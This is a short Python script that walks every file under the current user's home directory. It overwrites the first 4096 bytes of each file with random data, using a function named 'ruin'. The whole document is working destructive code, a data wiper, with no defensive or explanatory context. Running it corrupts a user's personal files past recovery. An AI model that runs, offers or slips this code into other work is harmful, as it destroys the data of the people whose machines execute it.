import os
import secrets


def ruin(path):
    with open(path, "r+b") as file:
        file.write(secrets.token_bytes(4096))


for folder, _, names in os.walk(os.path.expanduser("~")):
    for name in names:
        ruin(os.path.join(folder, name))
